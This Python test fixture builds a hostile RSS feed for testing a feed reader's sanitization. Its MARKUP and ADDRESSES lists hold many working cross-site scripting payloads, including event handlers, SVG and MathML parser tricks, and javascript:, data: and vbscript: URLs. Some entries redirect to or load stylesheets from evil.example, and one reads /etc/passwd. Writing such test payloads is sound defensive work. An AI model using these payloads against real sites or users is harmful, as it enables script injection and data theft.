"""Texts that try to run something where they are shown, each in its own way; all call `parent.ran`.

Written for these tests, after what the HTML standard says of parsing, addresses and foreign content.
"""

from html import escape

RUNS = "parent.ran(7)"
_SRC = f"src=q onerror={RUNS}"
_JS = f"javascript:{RUNS}"
MARKUP = (
    f"<script>{RUNS}</script>",
    f"<SCRIPT\n>{RUNS}</SCRIPT\n>",
    f"<scr<script></script>ipt>{RUNS}</script>",
    f"<script>{RUNS}//",
    f"<img {_SRC}>",
    f"<IMG/{_SRC}//",
    f'"><img {_SRC}>',
    f"'><img {_SRC}>",
    f"--><img {_SRC}>",
    f"]]><img {_SRC}>",
    f"</title><img {_SRC}>",
    f"</textarea><img {_SRC}>",
    f"</style><img {_SRC}>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to={_JS}></set><a><text>x</text></a></svg>",
    f"<math><mi xlink:href={_JS}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img {_SRC}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img {_SRC}>",
    f"<noscript><p title='</noscript><img {_SRC}>'></noscript>",
    f"<template><img {_SRC}></template><xmp><img {_SRC}></xmp>",
    f"<details open ontoggle={RUNS}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUNS}><select autofocus onfocus={RUNS}></select>",
    f"<video><source onerror={RUNS}></video><audio {_SRC}></audio>",
    f"<body onload={RUNS}><marquee onstart={RUNS}>x</marquee>",
    f"<iframe srcdoc='<script>{RUNS.replace('parent', 'top')}</script>'></iframe>",
    f"<iframe src='{_JS}'></iframe><object data='{_JS}'></object><embed src='{_JS}'>",
    f"<a href='{_JS}'>open me</a>",
    f"<a href='java&Tab;script&colon;{RUNS}'>open me</a>",
    f"<a href='&#1; JaVaScRiPt:{RUNS}'>open me</a>",
    f"<a href='data:text/html,<script>{RUNS}</script>'>open me</a>",
    f"<form action='{_JS}'><button>open me</button><input type=image {_SRC}></form>",
    "<base href='//evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<div style='background:url({_JS});width:expression({RUNS})'>x</div>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    f"<p id=content onmouseover={RUNS} style='position:fixed;inset:0'>over everything</p>",
    "w" * 300 + " " + "月" * 200 + " " + "&shy;W" * 100,
    f"<button popovertarget=y>open me</button><div popover id=y onbeforetoggle={RUNS}>x</div>",
    f"<!--[if true]><script>{RUNS}</script><![endif]--><?xml <img {_SRC}> ?>",
    f"{{{{ ''.__class__ }}}} {{% include 'base.html' %}} ${{{RUNS}}}",
    f"&lt;img {_SRC}&gt; &amp;lt;script&amp;gt;{RUNS}&amp;lt;/script&amp;gt;",
    f"\u202e<img {_SRC}>\u2066\u200b<b>",
    f"＜img {_SRC}＞ ‹script›{RUNS}‹/script› \ufe64img {_SRC}\ufe65",
    f'<a href="https://ok.example/?q=\'><img {_SRC}>">x</a>',
    f"<img src=x alt='`><img {_SRC}>'><p title=`x` onclick={RUNS}>",
)
ADDRESSES = (
    _JS,
    f" \t{_JS}",
    f"java\nscript:{RUNS}",
    f"\x01JAVASCRIPT:{RUNS}",
    f"javascript://ok.example/%0a{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    f"data:image/svg+xml,<svg onload='{RUNS}' xmlns='http://www.w3.org/2000/svg'/>",
    f"vbscript:{RUNS}",
    "file:///etc/passwd",
    f"feed:{_JS}",
    f"https://ok.example/'onmouseover='{RUNS}",
    f'https://ok.example/"><img {_SRC}>',
    f"//ok.example/<svg onload={RUNS}>",
    "blob:https://ok.example/1",
)


def hostile_feed(host: str, subject: str, markup: tuple[str, ...], addresses: tuple[str, ...]) -> bytes:
    """Return an RSS document with an item per attack: in its texts, its names and its addresses.

    Each title also holds `subject`. What XML can not carry stays in, as broken publishers leave it in.
    """
    items = []
    for n, attack in enumerate((*markup, *addresses)):
        link = attack if attack in addresses else f"http://{host}/a/{n}?q={attack[:80]}"
        items.append(
            f"<item><title>{_xml(f'{n} {attack}')} {subject}</title><guid>{_xml(f'{host}{n}')}</guid>"
            f"<link>{_xml(link)}</link><author>{_xml(attack)}</author><category>{_xml(attack)}</category>"
            f"<source url='{_xml(link)}'>{_xml(attack)}</source>"
            f"<pubDate>Sun, 08 Mar 2026 {n // 60 % 12:02}:{n % 60:02}:00 GMT</pubDate>"
            f"<enclosure url='{_xml(link)}' type='{_xml(attack[:60])}' length='1'/>"
            f"<description>{_xml(f'<p>{subject}, report {n}.</p>{attack}')}</description></item>"
        )
    head = f"<title>{_xml(markup[0])}</title><link>{_xml(addresses[0])}</link>"
    return (
        f"<rss version='2.0'><channel>{head}<description>{_xml(markup[1])}</description>"
        f"{''.join(items)}</channel></rss>"
    ).encode("utf-8", "surrogatepass")


def _xml(text: str) -> str:
    return escape(text, quote=True)
